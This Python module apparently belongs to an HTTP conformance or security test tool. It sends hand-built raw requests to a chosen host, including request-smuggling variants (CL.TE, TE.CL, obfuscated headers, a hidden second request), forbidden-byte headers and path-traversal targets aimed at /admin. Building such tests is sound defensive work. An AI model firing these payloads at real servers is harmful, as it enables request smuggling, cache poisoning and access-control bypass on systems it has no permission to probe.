"""HTTP/1.1 written by hand: requests that two parsers may read differently (NX-21), forbidden bytes (NX-23), odd targets (NX-24)."""
import socket

from plain_sockets import bytes_of, read_to_end, send_all
from tls_sessions import add_name_options, open_tls

# what a smuggler wants to be taken for a request of its own; HOST elsewhere becomes --host-header
HIDDEN = b"GET /hidden HTTP/1.1\r\nHost: hidden.example\r\n\r\n"


def add_commands(commands):
    http = commands.add_parser("http", help="sends one variant, or --bytes, and tells every answer")
    http.add_argument("host")
    http.add_argument("port", type=int)
    http.add_argument("variant", nargs="?", choices=sorted(VARIANTS), metavar="VARIANT", help=", ".join(sorted(VARIANTS)))
    http.add_argument("--bytes", help="text; \\r, \\n and \\xNN are understood")
    http.add_argument("--host-header", default="sinkhole.example")
    http.add_argument("--tls", action="store_true")
    http.add_argument("--keep", action="store_true", help="do not end our half after sending")
    add_name_options(http)
    http.set_defaults(run=run_http)

    variants = commands.add_parser("variants", help="the names of all variants, by case")
    variants.set_defaults(run=lambda _: {case: sorted(group) for case, group in CASES.items()})


def with_body(framing, body):
    return b"POST /visible HTTP/1.1\r\nHost: HOST\r\n" + framing + b"\r\n" + body


def with_head(head):
    return b"GET /visible HTTP/1.1\r\nHost: HOST\r\n" + head + b"\r\n"


def with_target(target):
    return b"GET " + target + b" HTTP/1.1\r\nHost: HOST\r\n\r\n"


CHUNKED = b"Transfer-Encoding: chunked\r\n"
LENGTH = b"Content-Length: %d\r\n"
LAST_CHUNK = b"0\r\n\r\n"

SMUGGLING = {
    "cl-te": with_body(LENGTH % (len(LAST_CHUNK + HIDDEN)) + CHUNKED, LAST_CHUNK + HIDDEN),
    "te-cl": with_body(CHUNKED + LENGTH % 4, b"%x\r\n" % len(HIDDEN) + HIDDEN + b"\r\n" + LAST_CHUNK),
    "cl-cl": with_body(LENGTH % 0 + LENGTH % len(HIDDEN), HIDDEN),
    "cl-same-twice": with_body(LENGTH % 2 + LENGTH % 2, b"ok"),
    "cl-list": with_body(b"Content-Length: 0, %d\r\n" % len(HIDDEN), HIDDEN),
    "cl-plus": with_body(b"Content-Length: +%d\r\n" % len(HIDDEN), HIDDEN),
    "cl-minus": with_body(b"Content-Length: -1\r\n", HIDDEN),
    "cl-hex": with_body(b"Content-Length: 0x%x\r\n" % len(HIDDEN), HIDDEN),
    "cl-huge": with_body(b"Content-Length: 18446744073709551616\r\n", HIDDEN),
    "cl-space-name": with_body(b"Content-Length : %d\r\n" % len(HIDDEN), HIDDEN),
    "cl-vt": with_body(b"Content-Length: \x0b%d\r\n" % len(HIDDEN), HIDDEN),
    "cl-folded": with_body(b"Content-Length:\r\n %d\r\n" % len(HIDDEN), HIDDEN),
    "te-vt": with_body(b"Transfer-Encoding:\x0bchunked\r\n" + LENGTH % 0, LAST_CHUNK + HIDDEN),
    "te-unknown": with_body(b"Transfer-Encoding: xchunked\r\n" + LENGTH % 0, LAST_CHUNK + HIDDEN),
    "te-twice": with_body(CHUNKED + b"Transfer-Encoding: identity\r\n", LAST_CHUNK + HIDDEN),
    "te-list": with_body(b"Transfer-Encoding: chunked, identity\r\n", LAST_CHUNK + HIDDEN),
    "te-quoted": with_body(b'Transfer-Encoding: "chunked"\r\n' + LENGTH % 0, LAST_CHUNK + HIDDEN),
    "te-folded": with_body(b"Transfer-Encoding:\r\n chunked\r\n" + LENGTH % 0, LAST_CHUNK + HIDDEN),
    "te-on-1.0": with_body(CHUNKED, LAST_CHUNK + HIDDEN).replace(b"HTTP/1.1", b"HTTP/1.0", 1),
    "chunk-bare-lf": with_body(CHUNKED, b"2\nok\n0\n\n" + HIDDEN),
    "chunk-plus": with_body(CHUNKED, b"+2\r\nok\r\n" + LAST_CHUNK + HIDDEN),
    "chunk-hex-prefix": with_body(CHUNKED, b"0x2\r\nok\r\n" + LAST_CHUNK + HIDDEN),
    "chunk-overflow": with_body(CHUNKED, b"10000000000000002\r\nok\r\n" + LAST_CHUNK + HIDDEN),
    "chunk-extension-lf": with_body(CHUNKED, b"2;a\n\r\nok\r\n" + LAST_CHUNK + HIDDEN),
    "chunk-no-crlf": with_body(CHUNKED, b"2\r\nokX\r\n" + LAST_CHUNK + HIDDEN),
    "trailer-framing": with_body(CHUNKED, b"0\r\nContent-Length: 9\r\n\r\n" + HIDDEN),
    "bare-lf": b"GET /visible HTTP/1.1\nHost: HOST\n\n" + HIDDEN,
    "cr-lf-cr-x": b"GET /visible HTTP/1.1\r\nHost: HOST\r\n\rX: y\r\n\r\n" + HIDDEN,
    "bare-cr": b"GET /visible HTTP/1.1\rHost: HOST\r\r" + HIDDEN,
    "obs-fold": with_head(b"X-Long: one\r\n two\r\n"),
    "space-before-first": b"GET /visible HTTP/1.1\r\n Host: HOST\r\nHost: HOST\r\n\r\n",
    "host-twice": with_head(b"Host: evil.example\r\n"),
    "host-missing": b"GET /visible HTTP/1.1\r\nX: y\r\n\r\n",
    "host-list": b"GET /visible HTTP/1.1\r\nHost: HOST, evil.example\r\n\r\n",
    "host-userinfo": b"GET /visible HTTP/1.1\r\nHost: HOST@evil.example\r\n\r\n",
    "body-on-get": b"GET /visible HTTP/1.1\r\nHost: HOST\r\n" + LENGTH % len(HIDDEN) + b"\r\n" + HIDDEN,
    "connection-drops-length": with_body(b"Connection: content-length\r\n" + LENGTH % len(HIDDEN), HIDDEN),
    "h2-preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "http-0.9": b"GET /visible\r\n",
    "http-1.2": with_head(b"").replace(b"HTTP/1.1", b"HTTP/1.2"),
    "second-host-changes": with_head(b"") + b"GET /second HTTP/1.1\r\nHost: evil.example\r\n\r\n",
}

FORBIDDEN_BYTES = {
    "nul-in-value": with_head(b"X-A: a\0b\r\n"),
    "cr-in-value": with_head(b"X-A: a\rX-B: b\r\n"),
    "lf-in-value": with_head(b"X-A: a\nX-B: b\r\n"),
    "nul-in-name": with_head(b"X\0A: a\r\n"),
    "space-in-name": with_head(b"X A: a\r\n"),
    "colon-first": with_head(b": a\r\n"),
    "no-colon": with_head(b"X-A\r\n"),
    "high-byte-in-name": with_head(b"X-\xe9: a\r\n"),
    "cr-in-method": b"GE\rT /visible HTTP/1.1\r\nHost: HOST\r\n\r\n",
    "nul-in-method": b"GE\0T /visible HTTP/1.1\r\nHost: HOST\r\n\r\n",
    "nul-in-target": with_target(b"/visi\0ble"),
    "cr-in-target": with_target(b"/visi\rble"),
    "tab-in-target": with_target(b"/visi\tble"),
    "space-in-target": with_target(b"/visi ble"),
    "high-byte-in-target": with_target(b"/visi\xffble"),
    "upgrade-cr": with_head(b"Connection: upgrade\r\nUpgrade: a\rX: y\r\n"),
    "upgrade-unknown": with_head(b"Connection: upgrade\r\nUpgrade: tunnel\r\n"),
    "upgrade-h2c": with_head(b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n"),
}

TARGETS = {
    "dot-dot": with_target(b"/public/../admin"),
    "encoded-dot-dot": with_target(b"/public/%2e%2e/admin"),
    "half-encoded-dot-dot": with_target(b"/public/.%2E/admin"),
    "double-encoded": with_target(b"/public/%252e%252e/admin"),
    "dot": with_target(b"/public/./admin"),
    "backslash": with_target(b"/public\\..\\admin"),
    "encoded-slash": with_target(b"/public%2fadmin"),
    "encoded-backslash": with_target(b"/public%5cadmin"),
    "double-slash": with_target(b"//evil.example/admin"),
    "inner-double-slash": with_target(b"/public//admin"),
    "fragment": with_target(b"/public#/admin"),
    "parameter": with_target(b"/public;p/admin"),
    "parameter-dot-dot": with_target(b"/public/..;/admin"),
    "encoded-nul": with_target(b"/public%00/admin"),
    "bad-percent": with_target(b"/public/%zz"),
    "overlong-utf8": with_target(b"/public/%c0%ae%c0%ae/admin"),
    "absolute-same": with_target(b"http://HOST/visible"),
    "absolute-other": with_target(b"http://evil.example/visible"),
    "absolute-userinfo": with_target(b"http://HOST@evil.example/visible"),
    "authority": b"CONNECT evil.example:443 HTTP/1.1\r\nHost: HOST\r\n\r\n",
    "asterisk": b"OPTIONS * HTTP/1.1\r\nHost: HOST\r\n\r\n",
    "asterisk-get": with_target(b"*"),
    "relative": with_target(b"visible"),
    "empty-query": with_target(b"/visible?"),
}

PLAIN = {"plain": with_head(b""), "plain-post": with_body(LENGTH % 2, b"ok")}
CASES = {"plain": PLAIN, "NX-21": SMUGGLING, "NX-23": FORBIDDEN_BYTES, "NX-24": TARGETS}
VARIANTS = {name: sent for group in CASES.values() for name, sent in group.items()}


def run_http(arguments):
    sent = bytes_of(arguments.bytes) if arguments.bytes is not None else VARIANTS[arguments.variant or "plain"]
    sent = sent.replace(b"HOST", arguments.host_header.encode("latin-1"))
    with connection_of(arguments) as connection:
        is_sent = send_all(connection, sent, ends=not arguments.keep and not arguments.tls)
        data, ending = read_to_end(connection)
    return {"isSent": is_sent, "statuses": statuses_of(data), "received": data[:8192].decode("latin-1"), "ending": ending}


def connection_of(arguments):
    if arguments.tls:
        return open_tls(arguments, ["http/1.1"])
    return socket.create_connection((arguments.host, arguments.port), arguments.timeout)


def statuses_of(data):
    """Of each answer, where one begins a line. Bodies here are JSON on one line, so none is taken for a head."""
    lines = data.split(b"\n")
    return [int(line[9:12]) for line in lines if line.startswith(b"HTTP/1.") and line[9:12].isdigit()]
